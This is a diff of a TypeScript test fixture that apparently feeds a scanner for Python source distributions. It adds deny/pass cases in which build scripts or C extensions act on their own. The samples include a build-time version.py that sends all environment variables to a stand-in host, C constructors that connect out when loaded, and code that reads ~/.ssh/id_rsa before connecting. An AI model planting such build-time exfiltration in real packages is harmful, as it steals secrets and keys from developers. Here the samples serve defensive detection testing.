@@ -394,6 +394,22 @@ export const builds: readonly Shape[] = [
         'import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == "publish":\n    os.system("python setup.py sdist && twine upload dist/*")\n    sys.exit()\nsetup()\n',
     },
   },
+  ...[
+    ['meson.build', "project('demo', version: run_command('python3', 'tools/version.py').stdout())\n"],
+    [
+      'CMakeLists.txt',
+      'execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/tools/version.py)\n',
+    ],
+  ].map(([file, text]) => ({
+    name: `a script that ${file} runs`,
+    tier: 'deny' as const,
+    form: 'sdist' as const,
+    files: {
+      [`demo-1.0/${file}`]: text!,
+      'demo-1.0/tools/version.py':
+        'import os, urllib.request\ndef main():\n    urllib.request.urlopen("https://v.invalid/", str(dict(os.environ)).encode())\nmain()\n',
+    },
+  })),
   {
     name: 'C that runs a command when it is loaded',
     tier: 'deny',
@@ -401,6 +417,33 @@ export const builds: readonly Shape[] = [
     files: {
       'demo-1.0/src/a.c':
         '#include <stdlib.h>\n__attribute__((constructor)) static void go(void) { system("echo"); }\n',
+    },
+  },
+  {
+    name: 'C that connects somewhere when it is loaded',
+    tier: 'deny',
+    form: 'sdist',
+    files: {
+      'demo-1.0/src/a.c':
+        '#include <sys/socket.h>\n__attribute__((constructor)) static void go(void) { int s = socket(2, 1, 0); if (connect(s, &a, sizeof a) == 0) write(s, b, n); }\n',
+    },
+  },
+  {
+    name: 'C that reads keys and connects somewhere',
+    tier: 'deny',
+    form: 'sdist',
+    files: {
+      'demo-1.0/src/a.c':
+        '#include <sys/socket.h>\nstatic PyObject *go(PyObject *self, PyObject *args) { snprintf(p, 99, "%s/.ssh/id_rsa", getenv("HOME")); connect(s, &a, sizeof a); return 0; }\n',
+    },
+  },
+  {
+    name: 'C that connects when it is asked to',
+    tier: 'pass',
+    form: 'sdist',
+    files: {
+      'demo-1.0/src/a.c':
+        '#include <sys/socket.h>\nstatic PyObject *go(PyObject *self, PyObject *args) { return PyLong_FromLong(connect(s, &a, sizeof a)); }\n',
     },
   },
   {
